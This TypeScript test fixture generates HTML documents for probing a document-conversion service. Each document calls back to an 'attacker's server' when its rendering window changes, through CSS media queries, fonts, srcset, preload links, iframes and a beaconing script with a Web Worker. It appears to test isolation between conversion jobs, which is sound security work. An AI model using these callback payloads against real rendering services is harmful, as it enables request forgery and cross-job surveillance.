/**
 * Documents that load an address when their window changes, and the ways in which a document comes into a window. `address` returns
 * an address at the attacker's server; `name` becomes its path.
 */
import { zip } from '../archives/zip-writer.ts';
import { htmlFile, type Fields } from '../service/convert.ts';

type AddressOf = (name: string) => string;

const dot = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/** Media queries that a later job may make true. */
const mediaQueries = [
  '(min-width: 1200px)',
  '(max-width: 900px)',
  '(width: 1400px)',
  '(min-height: 3000px)',
  '(max-height: 700px)',
  '(orientation: landscape)',
  '(min-aspect-ratio: 1/1)',
  '(min-device-width: 1200px)',
  '(max-device-width: 900px)',
  '(min-resolution: 1.5dppx)',
  '(-webkit-min-device-pixel-ratio: 1.5)',
  'print',
  'not screen',
  '(prefers-color-scheme: dark)',
  '(prefers-reduced-motion: reduce)',
  '(prefers-contrast: more)',
  '(forced-colors: active)',
  '(hover: none)',
  '(pointer: coarse)',
  '(any-pointer: none)',
  '(scripting: none)',
  '(update: none)',
  '(display-mode: fullscreen)',
  '(color-gamut: p3)',
  '(dynamic-range: high)',
  '(monochrome)',
];

/** Markup that makes no request until its window changes. Each part reacts to other changes. */
function quietMarkup(address: AddressOf): string {
  const media = mediaQueries
    .map((query, index) => `@media ${query} { .m${index} { background: url(${address(`media-${index}`)}) } }`)
    .join('\n');
  return `<style>
    ${media}
    @font-face { font-family: Wide; src: url(${address('font')}); unicode-range: U+3A9 }
    @media (min-width: 1200px), print, (min-resolution: 1.5dppx) { .glyph::after { content: '\\3A9'; font-family: Wide } }
    .container { container-type: inline-size }
    @container (min-width: 1150px) { .inside { background: url(${address('container-wide')}) } }
    @container (max-width: 700px) { .inside { background: url(${address('container-narrow')}) } }
    .set { background: image-set(url(${dot}) 1x, url(${address('image-set')}) 2x) }
    @media (min-width: 1200px) { .listed { list-style: url(${address('list-style')}); cursor: url(${address('cursor')}), auto } }
    @media (min-width: 1200px) { .clipped { mask: url(${address('mask')}#a); filter: url(${address('filter')}#a); clip-path: url(${address('clip')}#a) } }
    @supports (animation-timeline: scroll()) { @media (min-width: 1200px) {
      @keyframes seen { from { background-image: url(${address('keyframes')}) } to { background-image: url(${address('keyframes')}) } }
      .moving { animation: seen 1s linear infinite } } }
    @media (min-width: 1200px) { .hidden { display: block !important; background: url(${address('hidden')}) } }
  </style>
  ${mediaQueries.map((_query, index) => `<p class="m${index}">m`).join('')}
  <p class="glyph">g</p><div class="container"><p class="inside">c</p></div><p class="set">s</p><p class="listed">l</p>
  <p class="clipped">c</p><p class="moving">a</p><p class="hidden" style="display: none">h</p>
  <picture><source media="print" srcset="${address('picture-print')}"><source media="(min-width: 1200px)" srcset="${address('picture-wide')}"><img src="${dot}" alt=""></picture>
  <img srcset="${dot} 1x, ${address('srcset-density')} 2x" alt="">
  <img sizes="100vw" srcset="${dot} 1100w, ${address('srcset-width')} 3000w" alt="">
  <svg width="10" height="10"><style>@media (min-width: 1200px) { rect { fill: url(${address('svg')}#a) } }</style><rect width="9" height="9"/></svg>`;
}

/** Markup that may make requests of its own while its job runs. */
function loudMarkup(address: AddressOf): string {
  const framed = quietMarkup((name) => address(`framed-${name}`)).replaceAll('"', '&quot;');
  return `<link rel="preconnect" href="${address('preconnect')}"><link rel="dns-prefetch" href="${address('dns')}">
  <link rel="preload" as="image" media="(min-width: 1200px)" href="${address('preload')}">
  <link rel="prefetch" href="${address('prefetch')}"><link rel="modulepreload" href="${address('modulepreload')}">
  <link rel="stylesheet" media="(min-width: 1200px)" href="${address('stylesheet')}">
  <meta http-equiv="refresh" content="0.3;url=${address('refresh')}">
  <iframe srcdoc="${framed}"></iframe><iframe loading="lazy" src="${address('lazy-frame')}"></iframe>
  <object data="${address('object')}"></object><embed src="${address('embed')}">
  <video poster="${address('poster')}" src="${address('video')}"></video>${quietMarkup(address)}
  <div style="height: 30000px"></div><img loading="lazy" width="9" height="9" src="${address('lazy')}" alt="">
  <div style="content-visibility: auto; contain-intrinsic-size: 100px"><p style="background: url(${address('late')})">l</p></div>`;
}

/** A script that makes a request whenever it notices a change of its window, and now and then without one. */
function watchingScript(address: AddressOf): string {
  return `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address('speculation')}"]}],"prerender":[{"source":"list","urls":["${address('prerender')}"]}]}</script>
  <script>
    const base = ${JSON.stringify(address('script-'))};
    const tell = (what) => { fetch(base + what + '-' + innerWidth, { mode: 'no-cors', keepalive: true }).catch(() => {}); navigator.sendBeacon(base + what); new Image().src = base + what; };
    for (const query of ${JSON.stringify(mediaQueries)}) matchMedia(query).addEventListener('change', () => tell('media'));
    addEventListener('resize', () => tell('resize')); addEventListener('beforeprint', () => tell('print'));
    for (const type of ['pagehide', 'unload', 'beforeunload', 'visibilitychange', 'languagechange', 'freeze']) addEventListener(type, () => tell(type));
    new ResizeObserver(() => tell('observed')).observe(document.documentElement);
    setTimeout(() => setInterval(() => tell('interval'), 20), 30);
    const worker = new Worker(URL.createObjectURL(new Blob(["setInterval(() => fetch('" + base + "worker', { mode: 'no-cors' }).catch(() => {}), 20)"])));
  </script>`;
}

export interface EarlierDocument {
  /** The document and the way in which it is sent. */
  readonly fields: Fields;
  /** The document makes no request while its own job runs. */
  readonly isQuiet: boolean;
}

const page = (title: string, markup: string) =>
  `<!doctype html><html lang="en"><meta charset="utf-8"><title>${title}</title>${markup}<p>${title}</p></html>`;

/** Returns the documents by the way in which they come into the window. `mark` is in the title and text of each document. */
export function earlierDocuments(
  mark: string,
  address: AddressOf,
): Readonly<Record<string, EarlierDocument>> {
  const quiet = page(mark, quietMarkup(address));
  const loud = page(mark, loudMarkup(address));
  const scripted = page(mark, `${quietMarkup(address)}${watchingScript(address)}`);
  // Chromium's console quotes the wrong value.
  const complaining = page(mark, `<svg><rect width="${mark}" height="1"/></svg>`);
  const styles = mediaQueries
    .map((query, index) => `@media ${query} { p { background: url(${address(`short-${index}`)}) } }`)
    .join('\n');
  const short = page(mark, `<style>${styles}</style>`);
  const archive = zip([
    { name: 'index.html', contents: page(mark, '<link rel="stylesheet" href="style.css">') },
    { name: 'style.css', contents: styles },
  ]);
  const template = { template_engine: 'handlebars', data_string: JSON.stringify({ name: mark }) };
  return {
    'written into the page': { fields: { text: complaining }, isQuiet: true },
    'a short text': { fields: { text: short }, isQuiet: true },
    'a text': { fields: { text: quiet }, isQuiet: true },
    'a file': { fields: { file: htmlFile(quiet) }, isQuiet: true },
    'an archive': { fields: { file: new File([new Uint8Array(archive)], 'page.zip') }, isQuiet: true },
    'a template': {
      fields: { ...template, text: quiet.replace(`<p>${mark}`, '<p>{{name}}') },
      isQuiet: true,
    },
    'with a header': {
      fields: { text: quiet, header_html: `${quietMarkup((name) => address(`header-${name}`))}<p>${mark}` },
      isQuiet: false,
    },
    'with requests': { fields: { text: loud }, isQuiet: false },
    'with scripts': { fields: { text: scripted }, isQuiet: false },
    'an image': { fields: { text: scripted, output_format: 'png', screenshot_height: 500 }, isQuiet: false },
    'an address': { fields: { url: address('page') }, isQuiet: false },
    'an address with scripts': { fields: { url: address('scripted') }, isQuiet: false },
  };
}

/** Returns the pages that the attacker's server sends for the ways `an address`. */
export function pagesAtAddress(mark: string, address: AddressOf): Readonly<Record<string, string>> {
  return {
    page: page(mark, quietMarkup(address)),
    scripted: page(mark, `${quietMarkup(address)}${watchingScript(address)}`),
  };
}
